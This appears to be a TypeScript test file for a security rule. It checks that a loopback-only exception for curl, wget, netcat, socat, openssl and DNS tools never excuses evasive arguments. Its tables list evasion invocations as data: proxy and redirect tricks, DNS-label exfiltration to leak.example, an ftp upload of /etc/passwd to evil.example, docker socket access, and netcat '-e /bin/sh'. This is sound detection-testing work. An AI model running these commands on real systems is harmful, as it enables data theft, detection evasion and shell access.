/**
 * The loopback exception against arguments chosen to earn it while traffic goes elsewhere (issue 9), and the
 * legitimate loopback uses it must keep excepting. Built from the tools' own behaviour (versions in
 * lib/rule/grammars/*.ts). Only the public API is used, so the table also runs against older code.
 * Each row: utility, argv after the utility, expected targets (undefined: opaque), excepted?
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { networkTargets, targetsAreLoopbackOnly } from "../../lib/rule/targets.js";

type Row = [utility: string, args: string[], targets: string[] | undefined, excepted: boolean];

/** Invocations that earned the exception before issue 9 (ffac14e excepts every one) and must alert now. */
const EVASIONS: Row[] = [
  // curl: clustered short options with a glued value, and options whose value is the real destination.
  ["curl", ["-sx192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  [
    "curl",
    ["--connect-to", "localhost:80:evil.example:80", "http://localhost/"],
    ["localhost", "localhost", "evil.example"],
    false,
  ],
  [
    "curl",
    ["--resolve", "localhost:80:192.0.2.1", "http://localhost/"],
    ["localhost", "localhost", "192.0.2.1"],
    false,
  ],
  // config files, URL lists, state files that send a host elsewhere, local sockets.
  ["curl", ["-sK/tmp/cfg", "http://localhost/"], undefined, false],
  // wget: -e runs .wgetrc commands (use_proxy, http_proxy), prefixes resolve, input files.
  ["wget", ["--exec=http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
  ["wget", ["--input=/tmp/urls", "http://localhost/"], undefined, false],
  ["wget", ["--use-askpass=/tmp/x", "http://localhost/"], undefined, false],
  // `--hsts` is a flag: it must not swallow the URL after it as if it were `--hsts-file`'s value.
  ["wget", ["--bogus", "http://localhost/"], undefined, false],
  // netcat: options the old table did not know, whose value was then taken for the host.
  ["nc.openbsd", ["-zvx192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  ["nc.traditional", ["-g", "192.0.2.1", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  ["nc.traditional", ["-y", "localhost", "evil.example", "80"], undefined, false],
  ["ncat", ["-g", "192.0.2.1,192.0.2.2", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1", "192.0.2.2"], false],
  // plain nc may be any netcat: `-x` is a proxy to OpenBSD's, a hex-dump file to ncat's.
  ["nc", ["-g", "192.0.2.1", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  ["nc", ["-c", "evil.example", "127.0.0.1", "443"], ["127.0.0.1"], false],
  // socat: dual addresses, proxy forms, address types the old table did not know.
  ["socat", ["TCP:127.0.0.1:80!!TCP:192.0.2.1:80", "STDIO"], ["127.0.0.1", "192.0.2.1"], false],
  ["socat", ["STDIO", "PROXY:127.0.0.1:evil.example:443"], ["127.0.0.1", "evil.example"], false],
  ["socat", ["STDIO", "SOCKS4:127.0.0.1:evil.example:80"], ["127.0.0.1", "evil.example"], false],
  ["socat", ["TCP:localhost:80", "UNIX-CONNECT:/var/run/docker.sock"], undefined, false],
  ["socat", ["TCP:localhost:80", "ABSTRACT-CONNECT:/containerd-shim/x.sock"], undefined, false],
  ["socat", ["TCP:localhost:80", "VSOCK-CONNECT:2:80"], undefined, false],
  ["socat", ["TCP:localhost:80", "TUN:10.0.0.1/24"], undefined, false],
  ["socat", ["TCP:localhost:80", "FUTURE-TYPE:evil.example:80"], undefined, false],
  // openssl: -proxy, the positional host, option spellings, code loaded at start.
  [
    "openssl",
    ["s_client", "-connect", "localhost:443", "-proxy", "192.0.2.1:3128"],
    ["localhost", "192.0.2.1"],
    false,
  ],
  [
    "openssl",
    ["s_client", "-connect", "localhost:443", "evil.example:443"],
    ["localhost", "evil.example"],
    false,
  ],
  [
    "openssl",
    ["s_client", "-connect", "localhost:443", "-provider-path", "/tmp", "-provider", "x"],
    undefined,
    false,
  ],
  ["openssl", ["s_client", "-connect", "localhost:443", "-engine", "/tmp/e.so"], undefined, false],
  ["openssl", ["s_server", "-accept", "127.0.0.1:4433", "-status"], undefined, false],
  [
    "openssl",
    ["s_server", "-accept", "127.0.0.1:4433", "-status_url", "http://evil.example/"],
    ["127.0.0.1", "evil.example"],
    false,
  ],
  // DNS: names queried, wherever they are written.
  [
    "dig",
    ["localhost", "+domain=c2VjcmV0.leak.example", "+search"],
    ["localhost", "c2VjcmV0.leak.example"],
    false,
  ],
  ["dig", ["+trace", "localhost"], undefined, false],
  ["dig", ["-z", "localhost"], undefined, false],
  [
    "nslookup",
    ["-domain=c2VjcmV0.leak.example", "-search", "localhost", "127.0.0.1"],
    ["localhost", "c2VjcmV0.leak.example"],
    false,
  ],
  ["nslookup", ["-bogus", "localhost"], undefined, false],
  // transfer clients.
  ["aria2c", ["--all-proxy=192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["aria2c", ["--conf-path=/tmp/conf", "http://localhost/"], undefined, false],
  ["aria2c", ["http://localhost/f\thttp://evil.example/f"], ["localhost", "evil.example"], false],
  ["tftp", ["localhost", "-c", "get", "evil.example:secret"], ["localhost", "evil.example"], false],
  ["tftp", ["localhost"], ["localhost"], false],
  ["ftp", ["localhost"], ["localhost"], false],
  ["telnet", ["-l", "user", "localhost", "25"], ["localhost"], false],
];

/**
 * Invocations the base code already alerted on, in the form written here: kept so that the grammars read them
 * as the tools do (targets shown, prefixes resolved, opaque options) and never start excepting them.
 */
const HARDENED: Row[] = [
  // curl: clustered short options with a glued value, and options whose value is the real destination.
  ["curl", ["-sSLx", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["curl", ["-fsSx", "evil.example:8080", "http://127.0.0.1/"], ["127.0.0.1", "evil.example"], false],
  ["curl", ["--connect-to", "::192.0.2.1:", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  [
    "curl",
    ["--resolve", "+localhost:80:127.0.0.1,[2001:db8::1]", "http://localhost/"],
    ["localhost", "localhost", "127.0.0.1", "[2001:db8::1]"],
    false,
  ],
  ["curl", ["--preproxy", "socks5://192.0.2.1", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  [
    "curl",
    ["--doh-url", "https://doh.evil.example/dns-query", "http://localhost/"],
    ["localhost", "doh.evil.example"],
    false,
  ],
  ["curl", ["--socks5-hostname", "192.0.2.1:1080", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["curl", ["--proxy1.0", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["curl", ["--dns-servers", "192.0.2.53", "http://localhost/"], ["localhost", "192.0.2.53"], false],
  ["curl", ["-P", "192.0.2.1", "ftp://localhost/x"], ["localhost", "192.0.2.1"], false],
  // curl 7.x resolves unambiguous prefixes of long options.
  ["curl", ["--proxy1", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["curl", ["--prepro", "192.0.2.1", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["curl", ["--doh-u", "https://192.0.2.1/", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["curl", ["--conf", "/tmp/c", "http://localhost/"], undefined, false],
  ["curl", ["--prox", "192.0.2.1", "http://localhost/"], undefined, false],
  // config files, URL lists, state files that send a host elsewhere, local sockets.
  ["curl", ["-K", "/tmp/cfg", "http://localhost/"], undefined, false],
  ["curl", ["--config", "/tmp/cfg", "http://localhost/"], undefined, false],
  ["curl", ["--url", "@/tmp/urls", "http://localhost/"], undefined, false],
  ["curl", ["--alt-svc", "/tmp/altsvc", "https://localhost/"], undefined, false],
  ["curl", ["--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"], undefined, false],
  ["curl", ["--engine", "/tmp/evil.so", "https://localhost/"], undefined, false],
  [
    "curl",
    ["--expand-url", "http://{{h}}/", "--variable", "h=evil.example", "http://localhost/"],
    undefined,
    false,
  ],
  ["curl", ["--some-future-option", "evil.example", "http://localhost/"], undefined, false],
  [
    "curl",
    ["--url", "http://localhost/", "-:", "--url", "http://evil.example/"],
    ["localhost", "evil.example"],
    false,
  ],
  [
    "curl",
    ["http://localhost/", "--next", "-x", "192.0.2.1:3128", "http://localhost/"],
    ["localhost", "localhost", "192.0.2.1"],
    false,
  ],
  // wget: -e runs .wgetrc commands (use_proxy, http_proxy), prefixes resolve, input files.
  ["wget", ["-e", "use_proxy=on", "-e", "http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
  ["wget", ["--execute", "http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
  ["wget", ["-qe", "http_proxy=192.0.2.1:3128", "http://localhost/"], undefined, false],
  ["wget", ["-i", "/tmp/urls", "http://localhost/"], undefined, false],
  ["wget", ["--config=/tmp/wgetrc", "http://localhost/"], undefined, false],
  ["wget", ["--conf", "/tmp/wgetrc", "http://localhost/"], undefined, false],
  ["wget", ["-B", "http://evil.example/", "http://localhost/"], ["localhost", "evil.example"], false],
  // `--hsts` is a flag: it must not swallow the URL after it as if it were `--hsts-file`'s value.
  ["wget", ["--hsts", "http://evil.example/", "http://localhost/"], ["evil.example", "localhost"], false],
  // netcat: options the old table did not know, whose value was then taken for the host.
  ["nc", ["-P", "user", "evil.example", "80"], ["evil.example"], false],
  ["nc.openbsd", ["-P", "user", "evil.example", "80"], ["evil.example"], false],
  ["nc.openbsd", ["-x", "192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  ["nc.openbsd", ["127.0.0.1", "80", "-x", "192.0.2.1"], ["127.0.0.1", "192.0.2.1"], false],
  ["nc.openbsd", ["-U", "/var/run/docker.sock"], undefined, false],
  ["nc.traditional", ["-o", "/tmp/dump", "evil.example", "80"], ["evil.example"], false],
  ["ncat", ["-o", "/tmp/log", "evil.example", "80"], ["evil.example"], false],
  ["ncat", ["--proxy", "192.0.2.1:3128", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  ["ncat", ["--prox", "192.0.2.1:3128", "127.0.0.1", "80"], undefined, false],
  ["ncat", ["--proxy=192.0.2.1:3128", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  ["ncat", ["--vsock", "2", "80"], undefined, false],
  // plain nc may be any netcat: `-x` is a proxy to OpenBSD's, a hex-dump file to ncat's.
  ["nc", ["-x", "192.0.2.1:1080", "127.0.0.1", "80"], ["127.0.0.1", "192.0.2.1"], false],
  // socat: dual addresses, proxy forms, address types the old table did not know.
  ["socat", ["STDIO", "PROXY:192.0.2.1:localhost:80"], ["192.0.2.1", "localhost"], false],
  ["socat", ["STDIO", "SOCKS4A:192.0.2.1:localhost:80"], ["192.0.2.1", "localhost"], false],
  ["socat", ["STDIO", "SOCKS5:192.0.2.1:1080:localhost:80"], ["192.0.2.1", "localhost"], false],
  ["socat", ["STDIO", "IP4-SENDTO:192.0.2.1:253"], ["192.0.2.1"], false],
  ["socat", ["STDIO", "UDP4-DATAGRAM:192.0.2.255:53,broadcast"], ["192.0.2.255"], false],
  ["socat", ["STDIO", "IP-SENDTO:192.0.2.1:253"], ["192.0.2.1"], false],
  ["socat", ["TCP:localhost:80", "OPENSSL-CONNECT:evil.example:443"], ["localhost", "evil.example"], false],
  ["socat", ["STDIO", "TCP-CONNECT:evil.example:80"], ["evil.example"], false],
  ["socat", ["STDIO", "SCTP-CONNECT:192.0.2.1:80"], ["192.0.2.1"], false],
  ["socat", ["STDIO", "SSL:evil.example:443"], ["evil.example"], false],
  ["socat", ["-lf", "TCP:127.0.0.1:80", "STDIO", "TCP:192.0.2.1:80"], ["192.0.2.1"], false],
  ["socat", ["-d", "-d", "STDIO", "TCP:127.0.0.1:80", "TCP:192.0.2.1:80"], undefined, false],
  // openssl: -proxy, the positional host, option spellings, code loaded at start.
  [
    "openssl",
    ["s_client", "-connect=localhost:443", "-proxy=192.0.2.1:3128"],
    ["localhost", "192.0.2.1"],
    false,
  ],
  ["openssl", ["s_client", "-host", "evil.example", "-port", "443"], ["evil.example"], false],
  ["openssl", ["s_client", "-unix", "/var/run/x.sock"], undefined, false],
  ["openssl", ["s_server", "-accept", "4433"], undefined, false],
  // DNS: names queried, wherever they are written.
  [
    "dig",
    ["@127.0.0.1", "-q", "c2VjcmV0.leak.example", "localhost"],
    ["c2VjcmV0.leak.example", "localhost"],
    false,
  ],
  ["dig", ["-qc2VjcmV0.leak.example", "localhost"], ["c2VjcmV0.leak.example", "localhost"], false],
  ["dig", ["-f", "/tmp/names", "localhost"], undefined, false],
  ["kdig", ["localhost", "-q", "x.leak.example"], ["x.leak.example", "localhost"], false],
  ["drill", ["-f", "/tmp/packet", "localhost"], undefined, false],
  ["host", ["-l", "leak.example", "127.0.0.1"], ["leak.example"], false],
  ["nslookup", ["-", "127.0.0.1"], undefined, false],
  // transfer clients.
  ["aria2c", ["--http-proxy", "192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["aria2c", ["-i", "/tmp/urls", "http://localhost/"], undefined, false],
  ["lwp-request", ["-p", "http://192.0.2.1:3128/", "http://localhost/"], ["localhost", "192.0.2.1"], false],
  ["lwp-request", ["-b", "http://evil.example/", "x"], ["x", "evil.example"], false],
  ["ftp", ["-u", "ftp://evil.example/up", "/etc/passwd"], ["evil.example"], false],
];

/** Legitimate loopback uses: still excepted, or the product raises false alerts. */
const LOOPBACK: Row[] = [
  ["curl", ["-fsS", "http://localhost:8080/health"], ["localhost"], true],
  ["curl", ["-s", "-m", "1", "http://127.0.0.1:8080/health"], ["127.0.0.1"], true],
  ["curl", ["-sSf", "-H", "Accept: application/json", "-o", "/dev/null", "http://[::1]:9/"], ["[::1]"], true],
  ["curl", ["--max-t", "1", "--retry", "2", "http://localhost/"], ["localhost"], true],
  ["curl", ["--no-progress-meter", "--no-buffer", "http://localhost/"], ["localhost"], true],
  ["curl", ["-x", "http://127.0.0.1:3128", "http://localhost/"], ["localhost", "127.0.0.1"], true],
  [
    "curl",
    ["--resolve", "api.localhost:443:127.0.0.1", "https://api.localhost/"],
    ["api.localhost", "api.localhost", "127.0.0.1"],
    true,
  ],
  ["wget", ["-qO-", "http://127.0.0.1:9/"], ["127.0.0.1"], true],
  ["wget", ["-q", "-T", "1", "-t", "1", "http://localhost:9/", "-O", "/dev/null"], ["localhost"], true],
  ["wget", ["-nv", "--tries=1", "--spider", "http://localhost/"], ["localhost"], true],
  ["wget", ["--no-check-certificate", "--timeout", "2", "https://localhost/"], ["localhost"], true],
  ["nc", ["-z", "localhost", "22"], ["localhost"], true],
  ["nc", ["-zv", "127.0.0.1", "8080"], ["127.0.0.1"], true],
  ["nc", ["-z", "-w", "1", "127.0.0.1", "5432"], ["127.0.0.1"], true],
  ["nc.openbsd", ["-l", "127.0.0.1", "4444"], ["127.0.0.1"], true],
  ["nc.traditional", ["-zv", "127.0.0.1", "80"], ["127.0.0.1"], true],
  ["ncat", ["--send-only", "127.0.0.1", "9"], ["127.0.0.1"], true],
  ["dig", ["@127.0.0.1", "localhost"], ["localhost"], true],
  ["dig", ["+short", "localhost", "A"], ["localhost"], true],
  ["host", ["localhost"], ["localhost"], true],
  ["nslookup", ["-type=A", "localhost"], ["localhost"], true],
  ["socat", ["TCP:127.0.0.1:80", "STDIO"], ["127.0.0.1"], true],
  [
    "socat",
    ["-d", "-d", "TCP-LISTEN:8080,bind=127.0.0.1,fork", "TCP:localhost:80"],
    ["127.0.0.1", "localhost"],
    true,
  ],
  ["openssl", ["s_client", "-connect", "localhost:443"], ["localhost"], true],
  ["openssl", ["s_client", "-brief", "-servername", "example.org", "127.0.0.1:8443"], ["127.0.0.1"], true],
  ["openssl", ["s_server", "-accept", "127.0.0.1:4433", "-www"], ["127.0.0.1"], true],
  ["aria2c", ["-q", "-d", "/tmp", "http://localhost/file"], ["localhost"], true],
  ["lwp-download", ["http://localhost/f", "/tmp/f"], ["localhost"], true],
  ["tftp", ["127.0.0.1", "-c", "get", "file"], ["127.0.0.1"], true],
  ["ftp", ["-o", "/tmp/f", "http://localhost/f"], ["localhost"], true],
];

describe("loopback exception fails closed", () => {
  it.each(EVASIONS)("%s %j → %j, excepted %s", (utility, args, targets, excepted) => {
    expect(networkTargets(utility, args)).toEqual(targets);
    expect(targetsAreLoopbackOnly(utility, args)).toBe(excepted);
  });
});

describe("already alerting, read as the tools read them", () => {
  it.each(HARDENED)("%s %j → %j, excepted %s", (utility, args, targets, excepted) => {
    expect(networkTargets(utility, args)).toEqual(targets);
    expect(targetsAreLoopbackOnly(utility, args)).toBe(excepted);
  });
});

describe("legitimate loopback uses stay excepted", () => {
  it.each(LOOPBACK)("%s %j → %j, excepted %s", (utility, args, targets, excepted) => {
    expect(networkTargets(utility, args)).toEqual(targets);
    expect(targetsAreLoopbackOnly(utility, args)).toBe(excepted);
  });
});

/**
 * Argument vectors drawn from units: known options with their values, loopback positionals, and hostile units
 * (an unknown option or prefix, an opaque option, a destination that is not loopback, a remote positional).
 * The exception must never hold with a hostile unit present, and must hold for known options plus loopback
 * positionals alone.
 */
interface Pool {
  readonly safe: string[][];
  readonly loopback: string[][];
  readonly hostile: string[][];
}

const POOLS: Record<string, Pool> = {
  curl: {
    safe: [["-s"], ["-sSf"], ["-m", "1"], ["--max-time", "2"], ["-H", "X-A: b"], ["-o", "/dev/null"], ["-L"]],
    loopback: [["http://localhost/"], ["http://127.0.0.1:8080/x"], ["[::1]:9"], ["-x", "127.0.0.1:3128"]],
    hostile: [
      ["-x", "192.0.2.1:3128"],
      ["-sx192.0.2.1"],
      ["--proxy", "evil.example"],
      ["--prepro", "evil.example"],
      ["--connect-to", "::evil.example:"],
      ["--resolve", "localhost:80:192.0.2.1"],
      ["--doh-url", "https://evil.example/"],
      ["-K", "/tmp/c"],
      ["--conf", "/tmp/c"],
      ["--evil"],
      ["-%"],
      ["http://evil.example/"],
      ["http://localhost@evil.example/"],
      ["--prox", "127.0.0.1"],
    ],
  },
  wget: {
    safe: [["-q"], ["-O", "/dev/null"], ["-T", "1"], ["--tries=1"], ["-nv"], ["--no-check-certificate"]],
    loopback: [["http://localhost:9/"], ["http://127.0.0.1/"]],
    hostile: [
      ["-e", "http_proxy=192.0.2.1:3128"],
      ["--exec=use_proxy=on"],
      ["-i", "/tmp/u"],
      ["--input=/tmp/u"],
      ["--config=/tmp/rc"],
      ["--bogus"],
      ["http://evil.example/"],
      ["-B", "http://evil.example/"],
    ],
  },
  nc: {
    safe: [["-z"], ["-v"], ["-zv"], ["-n"], ["-w", "1"], ["-w1"]],
    loopback: [
      ["127.0.0.1", "80"],
      ["localhost", "22"],
    ],
    hostile: [
      ["-x", "192.0.2.1:1080"],
      ["-P", "user"],
      ["-g", "192.0.2.1"],
      ["-e", "/bin/sh"],
      ["-U"],
      ["-Y"],
      ["--proxy", "192.0.2.1"],
      ["evil.example", "80"],
    ],
  },
  dig: {
    safe: [["+short"], ["-t", "A"], ["@127.0.0.1"], ["-4"], ["A"], ["+noall", "+answer"]],
    loopback: [["localhost"], ["-x", "127.0.0.1"]],
    hostile: [
      ["leak.example"],
      ["-q", "x.leak.example"],
      ["+domain=leak.example"],
      ["+trace"],
      ["-f", "/tmp/n"],
      ["-Z"],
    ],
  },
};

describe("property: no hostile unit is ever excepted", () => {
  it.each(Object.keys(POOLS))("%s", (utility) => {
    const pool = POOLS[utility]!;
    const unit = fc.oneof(
      fc.constantFrom(...pool.safe.map((u) => ({ u, hostile: false, loopback: false }))),
      fc.constantFrom(...pool.loopback.map((u) => ({ u, hostile: false, loopback: true }))),
      fc.constantFrom(...pool.hostile.map((u) => ({ u, hostile: true, loopback: false }))),
    );
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 8 }), (units) => {
        const args = units.flatMap((x) => x.u);
        const excepted = targetsAreLoopbackOnly(utility, args);
        if (units.some((x) => x.hostile)) return !excepted;
        // Known options and one loopback destination (netcat places one host): excepted.
        return units.filter((x) => x.loopback && !x.u[0]!.startsWith("-")).length === 1 ? excepted : true;
      }),
      { seed: 9, numRuns: 500 },
    );
  });
});
